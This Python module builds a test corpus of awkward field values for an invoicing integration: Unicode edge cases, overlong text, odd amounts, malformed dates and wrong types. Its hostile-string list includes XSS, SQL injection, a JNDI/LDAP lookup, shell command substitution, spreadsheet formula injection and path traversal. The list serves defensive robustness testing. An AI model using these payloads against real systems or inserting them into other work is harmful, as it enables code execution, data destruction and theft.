"""The corpus: what people, imports and broken integrations put into a source's fields, as data.

Every entry is one value of one field; generated families count by their distinct values. `SAME` are values that must arrive as they
are, the others may be held with a sentence or changed by a documented rule.
"""

from __future__ import annotations

from dataclasses import dataclass
from decimal import Decimal

SHORT_HOSTILE: tuple[str, ...] = (
    # mark-up and scripts
    "<b>Bold & Co</b>", "<img src=x onerror=alert(1)>", "<script>alert('x')</script>", "</td></table>", "<!-- -->",
    "&lt;b&gt;", "&amp;&nbsp;&#0;", "<![CDATA[x]]>", "<?xml version='1.0'?>", "<a href='https://evil.example'>Pay here</a>",
    "{{7*7}}", "${jndi:ldap://x.example/a}", "%s%s%n", "{0}{name}", "%(name)s", "\\u0041", "\\x41\\n", "`whoami`", "$(id)",
    # formulas
    "=1+1", "=HYPERLINK(\"https://evil.example\",\"x\")", "+61 8 5550 0100", "-2+3", "@SUM(A1)", "=cmd|' /C calc'!A0",
    "'=1+1", "\"=1+1\"", " =1+1", "\t=1+1", "\r=1+1", "＝1+1", "%0A=1", ";=1", "|=1",
    # query languages
    "Robert'); DROP TABLE invoices;--", "' OR '1'='1", "\" OR \"\"=\"", "a\" AND Name==\"b", "x\\\" || true", "O'Brien & Sons",
    "O''Brien", "100% Pure", "a_b%c", "[x]", "(x", "x)", "Type==\"ACCREC\"", "\\", "\\\\", "\\\"", "\"", "''", "a,b", "a;b",
    "a|b", "a/b", "a//b", "../../etc/hostname", "C:\\Windows\\x", "NUL", "CON", "null", "None", "undefined", "true", "false", "NaN",
    "Infinity", "-0", "1e5", "0x1F", "0", "[]", "{}", "{\"a\":1}", "ERROR", "N/A", "-", "--", ".", "..", "#REF!", "#N/A",
    # scripts, directions, compositions
    "Café", "Cafe\u0301", "Müller & Söhne", "Straße", "STRASSE", "İstanbul", "ıstanbul", "Łódź", "Ångström", "Ａｃｍｅ", "ﬁne",
    "Ελλάδα", "Привет", "раypal", "日本語株式会社", "한국어", "ไทย", "हिन्दी", "العربية", "עברית", "abc\u202edef\u202c", "\u200fabc",
    "\u2066abc\u2069", "a\u061cb", "👩‍👩‍👧‍👦 Family", "🇦🇺 Flag", "1️⃣", "Z̷̢a̶l̵g̸o̴", "x\u0301" * 20, "a\u200bb", "a\u2060b", "\ufeffBOM",
    "a\u00adb", "a\u00a0b", "a\u2003b", "a\u3000b", "\u00a0", "\u200b", "𝒜𝒸𝓂𝑒", "𠜎", "ﷺ", "∑", "½", "№ 5", "™", "“Quoted”", "‘x’", "—",
    "\u2212" + "5", "\ufffd", "\ufdd0", "\uffff", "\U0010ffff", "\ue000", "\u2028line", "\u2029paragraph", "a\u0085b",
    # shapes of plain text
    "", " ", "   ", "\t", "\n", "a", "A" * 255, "B" * 256, "word " * 60, " lead", "trail ", "two  blanks", "tab\there",
    "line\nfeed", "cr\r\nlf", "cr\ralone", "\n\n\nmany\n\n\n", "a\x00b", "\x00", "a\x1bb", "\x1b[31mred", "a\x07b", "a\x08b", "a\x7fb",
)  # fmt: skip
"""Short texts; each goes into a name, a title or a reference."""

CONTROLS: tuple[str, ...] = tuple(f"be{chr(code)}low" for code in (*range(1, 32), *range(127, 160)))
"""Every control character in the middle of a word."""

LONG: tuple[str, ...] = (
    *("x" * n for n in (3999, 4000, 4001, 7999, 8000, 8001, 12_500)),
    *("ü" * n for n in (4000, 4001)),
    *("😀" * n for n in (3999, 4000, 4001)),
    *("wort " * n for n in (800, 801, 2400)),
    "line\n" * 801,
    "e\u0301" * 2001,
    "a" * 3999 + "👩‍👩‍👧‍👦",
    "<b>" * 1334,
    "\n" * 4001 + "end",
    " " * 5000 + "end",
    "=" * 4001,
)
"""Descriptions around the ledger's limit of 4,000 characters for a line."""

NUMBERS: tuple[str, ...] = (
    "INV-1", "inv-1", "INV 1", " INV-2", "INV-3 ", "0", "00", "0000123", "123", "1.0", "1e3", "-5", "+5", "A/1", "A\\1", "A,1", "A;1",
    "A|1", "A\"1", "A'1", "A''1", "A<1>", "A&1", "A%1", "A%2C1", "A#1", "A?1", "A=1", "=1+1", "@A1", "A*1", "A:1", "A(1)", "A[1]", "A{1}",
    "A_1", "A__1", "A.1", "A..1", "../A1", "CON", "NUL.pdf", "x" * 50, "x" * 255, "x" * 256, "ERROR", "error", "", "   ", "ü-1", "№1",
    "А-1", "A\u200b1", "A\u202e1", "A\t1", "A\n1", "A\x001", "A\u00a01", "😀", "null", "true", "\u0661\u0662", "A-1-", "-A-1",
    "A  1", "Type==\"ACCREC\"", "A\" OR \"1\"=\"1", "$1", "~1", "`1`", "^1", "1,2,3", "A" + "-" * 200,
)  # fmt: skip
"""Invoice numbers."""

AMOUNTS: tuple[str, ...] = (
    "0", "0.00", "0.0000", "0.01", "0.001", "0.0001", "0.004", "0.005", "0.0049", "0.0050", "0.0051", "0.014", "0.015", "0.016", "0.05",
    "0.10", "0.1", "0.99", "0.995", "0.9949", "0.9999", "1", "1.0", "1.00", "1.000", "1.005", "1.01", "1.1", "1.10", "1.115", "1.125",
    "2.165", "2.675", "3.3333", "6.6667", "9.99", "9.995", "10", "10.005", "33.33", "33.335", "66.67", "99.99", "99.995", "100",
    "100.10", "123.45", "123.456", "123.4567", "333.3333", "999.99", "999.995", "1000", "1234.5678", "4999.995", "9999.99", "10000",
    "12345.67", "99999.99", "100000.01", "123456.78", "999999.99", "1000000", "1234567.89", "9999999.99", "12345678.90", "99999999.99",
    "123456789.01", "999999999.99", "9999999999.99", "99999999999.99", "999999999999.99", "9999999999999.99", "123456789012345.67",
    "99999999999999999999.99", "1234567890123456789012345678.99", "99999999999999999999999999999999.99", "1E+2", "1E-2", "1E+30",
    "1E-30", "0.00000001", "1.23456789", "7.005", "8.615", "1.255", "0.285", "1.015", "4.35", "1.45",
)  # fmt: skip
"""Amounts of a line, both signs are tried."""

QUANTITIES: tuple[tuple[str, str], ...] = (
    ("1", "100"), ("3", "33.3333"), ("0", "100"), ("0", "0"), ("-1", "100"), ("1", "-100"), ("-2", "-50"), ("0.5", "199.99"),
    ("0.3333", "300"), ("0.33333", "300"), ("0.00001", "1"), ("1.75", "185"), ("7", "14.2857"), ("1000", "0.001"), ("100000", "0.0001"),
    ("999999", "9.99"), ("1E+3", "1"), ("12.3456", "7.8901"), ("1", "0.005"), ("3", "0.335"), ("144", "0.0694"), ("11", "9.0909"),
    ("2.5", "0.01"), ("0.25", "0.02"),
)  # fmt: skip
"""Quantity and rate; the amount is their product."""

DATES: tuple[object, ...] = (
    "2026-11-01", "2026-11-01T00:00:00", "2026-11-01T00:00:00Z", "2026-11-01T00:00:00.000Z", "2026-11-01T00:00:00.1234567Z",
    "2026-11-01T11:59:59Z", "2026-11-01T12:00:00Z", "2026-11-01T23:59:59Z", "2026-11-01T00:00:00+08:00", "2026-11-01T00:00:00-11:00",
    "2026-11-01 00:00:00", "2028-02-29T00:00:00Z", "2027-02-29T00:00:00Z", "2026-02-30", "2026-13-01", "2026-00-10", "2026-11-31",
    "2026-11-01T24:00:00Z", "2026-11-01T25:00:00Z", "2026-11-01T00:60:00Z", "2026-11-01T00:00:60Z", "0001-01-01", "0001-01-01T00:00:00Z",
    "0001-01-01T00:00:00+14:00", "9999-12-31", "9999-12-31T23:59:59Z", "9999-12-31T00:00:00-14:00", "1899-12-30", "1900-01-01",
    "1970-01-01T00:00:00Z", "2038-01-19T03:14:08Z", "01/11/2026", "11/01/2026", "1 Nov 2026", "20261101", "2026-W45-1", "2026-305",
    "2026-1-1", "26-11-01", "tomorrow", "", " ", "null", "0", "-1", "\u0662\u0660\u0662\u0666-11-01", "2026-11-01T00:00:00Z; DROP", 0,
    20261101, -1, Decimal("1.5"), True, None, "2026-08-31", "2026-09-01", "2030-01-01T00:00:00Z",
)  # fmt: skip
"""An invoice's date, also in shapes that are none."""

SHAPES: tuple[object, ...] = (
    None, True, False, 0, 1, -1, 10**30, Decimal("1.5"), Decimal("-0"), "text", "", "12", "12.5", "1,234.50", [], [1], ["a"], {}, {"a": 1},
    [[]], {"value": 12},
)  # fmt: skip
"""Wrong kinds of value, put into every field that decides about money."""

SHAPED_FIELDS: tuple[tuple[str, str], ...] = (
    ("Invoices", "invoiceTotal"), ("Invoices", "totalTaxValue"), ("Invoices", "invoiceNumber"), ("Invoices", "orderNumber"),
    ("Invoices", "dueDate"), ("BillingItems", "totalAmount"), ("BillingItems", "taxDollars"), ("BillingItems", "quantity"),
    ("BillingItems", "rate"), ("BillingItems", "itemName"), ("BillingItems", "billingCodeID"), ("Companies", "companyName"),
    ("Companies", "currencyID"),
)  # fmt: skip

AMOUNT_FIELDS = frozenset(("invoiceTotal", "totalTaxValue", "totalAmount", "taxDollars", "quantity", "rate"))

FILE_NAMES: tuple[str, ...] = (
    "../../etc/hostname", "..\\..\\x", "/etc/hostname", "C:\\x.pdf", "\\\\server\\share\\x", "CON", "con.pdf", "NUL", "aux.txt", "COM1.pdf",
    "LPT9", "a:b", "a*b?", "a|b", "<a>", "\"a\"", "x" * 300, "x" * 300 + ".pdf", "ü" * 200 + ".pdf", "😀" * 100, ".", "..", "...", ".pdf",
    "a.", "a ", " a", "a\x00b.pdf", "\x00", "a\nb.pdf", "a\tb", "a\u202efdp.exe", "a\u200b.pdf", "", " ", "-rf", "--help", "~", "$HOME",
    "%TEMP%", "a;b", "a&b", "a'b", "a%2Fb", "a%00b", "\u2024\u2024/x", "desktop.ini", "a.pdf.exe",
    "𠜎.pdf", "e\u0301.pdf", "x." + "y" * 300,
)  # fmt: skip
"""Names of files, and numbers that names of files are made from."""


@dataclass(frozen=True, slots=True)
class Case:
    """One invoice of the corpus: what is put where. `key` tells it from all others."""

    family: str
    entity: str
    field: str
    value: object

    @property
    def key(self) -> str:
        """What makes it distinct."""
        return f"{self.family}|{self.entity}.{self.field}|{type(self.value).__name__}|{self.value!r}"


def fits(field: str, value: object) -> bool:
    """Whether the simulated tenant can hold the value in this field at all."""
    if field in {"billingCodeID", "currencyID"}:
        return not isinstance(value, list | dict)
    return not (field in AMOUNT_FIELDS and isinstance(value, bool))


def cases() -> tuple[Case, ...]:
    """Every case that becomes an invoice."""
    made = [Case("name", "Companies", "companyName", text) for text in SHORT_HOSTILE]
    made += [Case("title", "BillingItems", "itemName", text) for text in SHORT_HOSTILE]
    made += [Case("reference", "Invoices", "orderNumber", text) for text in SHORT_HOSTILE[::3]]
    made += [Case("control", "BillingItems", "description", text) for text in CONTROLS]
    made += [Case("long", "BillingItems", "lineItemFullDescription", text) for text in LONG]
    made += [Case("number", "Invoices", "invoiceNumber", text) for text in NUMBERS]
    made += [Case("amount", "BillingItems", "totalAmount", Decimal(text)) for text in AMOUNTS]
    made += [Case("amount", "BillingItems", "totalAmount", Decimal(text).copy_negate()) for text in AMOUNTS]
    made += [Case("quantity", "BillingItems", "quantity", (Decimal(q), Decimal(r))) for q, r in QUANTITIES]
    made += [Case("date", "Invoices", "invoiceDateTime", value) for value in DATES]
    made += [
        Case("shape", entity, field, value) for entity, field in SHAPED_FIELDS for value in SHAPES if fits(field, value)
    ]
    return tuple({case.key: case for case in made}.values())


def distinct_values() -> int:
    """How many different values there are, whatever field they are put into."""
    values = {repr(case.value) for case in cases()} | {repr(name) for name in FILE_NAMES}
    return len(values)
